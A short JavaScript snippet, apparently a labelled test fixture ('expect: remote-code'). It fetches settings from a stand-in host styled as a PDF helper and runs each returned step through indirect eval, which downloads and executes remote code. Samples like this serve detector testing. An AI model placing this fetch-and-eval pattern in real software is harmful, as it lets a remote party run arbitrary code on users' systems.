function get(url, done) {
  fetch(url)
    .then((answer) => answer.json())
    .then((data) => done(data));
}

get('https://cfg.pdf-helper.example/settings', (settings) => {
  const { steps } = settings;
  steps.forEach((step) => {
    // expect: remote-code
    (0, eval)(step.body);
  });
});
